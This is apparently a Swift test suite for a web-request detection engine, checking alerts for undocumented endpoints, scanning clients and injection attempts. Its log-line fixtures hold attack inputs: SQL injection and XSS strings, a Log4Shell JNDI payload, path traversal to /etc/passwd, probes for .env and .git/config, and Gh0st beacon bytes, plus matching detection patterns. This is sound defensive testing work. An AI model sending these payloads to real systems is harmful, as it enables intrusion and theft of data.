import ReqwatchCore
import ReqwatchDetect
import ReqwatchTestSupport
import Testing

let petSpec = """
openapi: 3.0.3
servers:
  - url: https://api.example.com/v1
paths:
  /users/{id}:
    get:
      responses:
        "200": {description: ok}
  /users/me:
    get:
      responses:
        "200": {description: ok}
  /login:
    post:
      responses:
        "200": {description: ok}
  /home:
    get:
      responses:
        "200":
          description: page
          content:
            text/html: {}
"""

@Suite struct UnknownEndpointTests {
    func specConfig() throws -> DetectConfiguration {
        var c = DetectConfiguration()
        c.inventory = try RouteInventory.parse(text: petSpec, origin: "spec.yaml")
        return c
    }

    @Test func ghostEndpointFiresOncePerRoute() throws {
        var lines: [String] = []
        for k in 0..<10 { lines.append("+\(k * 60) 192.0.2.\(k % 4 + 1) - GET /v1/internal/export/\(k) 200 Mozilla/5.0") }
        lines += (0..<5).map { "+\($0) 192.0.2.9 - GET /v1/users/\($0) 200 Mozilla/5.0" }
        let reqs = lines.map(DetectorHarness.parse).sorted { $0.time < $1.time }
        let alerts = only(try DetectorHarness.run(reqs, configuration: try specConfig(), lifecycle: true), .unknownEndpoint)
        // reported from its first successful call; 10 calls are a tenfold growth (one escalation line); closed at
        // end of input with the whole picture
        #expect(alerts.map(\.incidentState) == ["opened", "escalated", "closed"])
        let a = try #require(alerts.first)
        #expect(a.route == "/v1/internal/export/{id}")
        #expect(a.incidentKey == "ghost:GET /v1/internal/export/{id}")
        #expect(a.evidence.first { $0.0 == "callers" }?.1 == .int(1))
        #expect(a.start == a.end)
        let last = try #require(alerts.last)
        #expect(last.incidentID == a.incidentID)
        #expect(last.evidence.first { $0.0 == "callers" }?.1 == .int(4))
        #expect(last.end.microseconds - last.start.microseconds == 540_000_000)
    }

    @Test func staticHealthAndPreflightAreNotGhosts() throws {
        var lines: [String] = []
        for k in 0..<20 {
            lines.append("+\(k) 192.0.2.1 - GET /static/app.\(k).js 200 Mozilla/5.0")
            lines.append("+\(k) 192.0.2.1 - GET /favicon.ico 200 Mozilla/5.0")
            lines.append("+\(k) 10.0.0.2 - GET /healthz 200 kube-probe/1.29")
            lines.append("+\(k) 192.0.2.1 - OPTIONS /v1/orders/\(k) 204 Mozilla/5.0")
            lines.append("+\(k) 192.0.2.1 - GET /.well-known/openid-configuration 200 Mozilla/5.0")
        }
        #expect(try DetectorHarness.run(lines: lines, configuration: try specConfig()).isEmpty)
    }

    @Test func probingClientWithoutSpecOnSensitivePath() throws {
        let lines = [
            "+0 203.0.113.66 - GET /.env 404 Mozilla/5.0",
            "+1 203.0.113.66 - GET /.git/config 404 Mozilla/5.0",
            "+2 203.0.113.66 - GET /wp-login.php 404 Mozilla/5.0",
            "+3 198.51.100.3 - GET /download?file=../../etc/passwd 400 Mozilla/5.0",
            "+4 198.51.100.4 - GET /products/12 200 Mozilla/5.0",
        ]
        let alerts = only(try DetectorHarness.run(lines: lines, lifecycle: true), .unknownEndpoint)
        // both clients sent sensitive probes with the same agent: one campaign incident naming both addresses
        #expect(alerts.map(\.incidentState) == ["opened", "closed"])
        #expect(alerts.first?.incidentKey == "probe:ip:203.0.113.66")
        #expect(alerts.first?.path == "/.env")
        #expect(alerts.last?.addresses == ["203.0.113.66", "198.51.100.3"])
    }

    /// Injection payloads in the URL, even on a documented route and encoded once or twice, mark a probing client;
    /// searches with quotes, parentheses and percent-encoding do not.
    @Test func injectionPayloadsInTheURL() throws {
        let lines = [
            "+0 203.0.113.90 - GET /v1/users/7?sort=name%27%20UNION%20ALL%20SELECT%20NULL--%20- 200 Mozilla/5.0",
            "+1 203.0.113.91 - GET /v1/users/me?q=%253Cscript%253Ealert(1)%253C%2Fscript%253E 200 Mozilla/5.0",
            "+2 203.0.113.92 - GET /v1/home?x=${jndi:ldap://x.example/a} 200 Mozilla/5.0",
            "+3 203.0.113.93 - GET /v1/users/me?q=1'+or+1=1--+- 200 Mozilla/5.0",
            "+4 203.0.113.94 - GET /v1/users/me?q=union/**/select+1 200 Mozilla/5.0",
            "+4 203.0.113.95 - GET /v1/users/me?q=1+union+all+select+null,null 200 Mozilla/5.0",
            "+5 192.0.2.10 - GET /v1/users/me?q=rock+%27n%27+roll+(live) 200 Mozilla/5.0",
            "+6 192.0.2.11 - GET /v1/users/me?q=select+a+union+plan&sort=-created 200 Mozilla/5.0",
            "+7 192.0.2.12 - GET /v1/users/me?filter=%7B%22name%22%3A%22o%27brien%22%7D 200 Mozilla/5.0",
        ]
        let alerts = only(try DetectorHarness.run(lines: lines, configuration: try specConfig(), lifecycle: true), .unknownEndpoint)
        let closed = alerts.filter { $0.incidentState == "closed" }
        // one incident per payload and agent: the two `union all select` senders are one campaign
        let senders: [String] = closed.flatMap { a -> [String] in a.addresses.isEmpty ? [a.sourceIP ?? ""] : a.addresses }
        #expect(Set(senders) == Set((90...95).map { "203.0.113.\($0)" }))
        #expect(alerts.allSatisfy { $0.evidence.first { $0.0 == "reason" }?.1 == .string("injection-payload") })
        let patterns: [JSONValue?] = closed.map { a in a.evidence.first { $0.0 == "pattern" }?.1 }
        let expected: [JSONValue?] = ["<script", "${jndi:", "' or 1=1", "union select", "union all select"].map { .string($0) }
        #expect(Set(patterns.compactMap { $0?.encoded() }) == Set(expected.compactMap { $0?.encoded() }))
    }

    /// A request line that is not HTTP (a TLS handshake on the plain port, a RAT beacon) marks a probing client; a
    /// connection closed without a request (`"-"`) does not.
    @Test func nonHTTPRequestLinesAreProbes() throws {
        let lines = [
            #"203.0.113.30 - - [29/Jul/2023:10:26:06 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-""#,
            #"203.0.113.31 - - [29/Jul/2023:10:26:07 +0000] "Gh0st\xAD\x00\x00\x00\xE0" 400 157 "-" "-""#,
            #"192.0.2.40 - - [29/Jul/2023:10:26:08 +0000] "-" 400 0 "-" "-""#,
            #"192.0.2.41 - - [29/Jul/2023:10:26:09 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0""#,
        ]
        var engine = try DetectionEngine(configuration: DetectConfiguration())
        var alerts: [Alert] = []
        engine.observe(parseBatch(lines).batch, into: &alerts)
        engine.finish(into: &alerts)
        let probes = only(alerts, .unknownEndpoint)
        // the same kind of probe with the same (empty) agent from two addresses: one campaign incident
        #expect(probes.map(\.incidentState) == ["opened", "closed"])
        #expect(probes.last?.addresses == ["203.0.113.30", "203.0.113.31"])
        #expect(probes.allSatisfy { $0.evidence.first { $0.0 == "reason" }?.1 == .string("malformed-request") })
    }

    @Test func probingClientWithManyUnknownPaths() throws {
        let words = ["admin", "backup", "old", "test", "api2", "beta", "dev", "staging", "private", "internal", "tmp", "secret"]
        let lines = words.enumerated().map { "+\($0.offset) 203.0.113.70 - GET /\($0.element) 404 Mozilla/5.0" }
        let alerts = only(try DetectorHarness.run(lines: lines, configuration: try specConfig()), .unknownEndpoint)
        #expect(alerts.count == 1)
        #expect(alerts.first?.evidence.first { $0.0 == "reason" }?.1 == .string("many-unknown-paths"))
        #expect(alerts.first?.timestamp == Timestamp(seconds: DetectorHarness.t0 + 9))
    }

    @Test func knownRoutesDoNotAlert() throws {
        var lines: [String] = []
        for k in 0..<40 {
            lines.append("+\(k) 192.0.2.\(k % 7 + 1) - GET /v1/users/\(k % 20) 200 Mozilla/5.0")
            lines.append("+\(k) 192.0.2.\(k % 7 + 1) - GET /v1/users/me/ 200 Mozilla/5.0")
            lines.append("+\(k) 192.0.2.\(k % 7 + 1) - HEAD /v1/users/me 200 Mozilla/5.0")
        }
        #expect(try DetectorHarness.run(lines: lines, configuration: try specConfig()).isEmpty)
    }
}
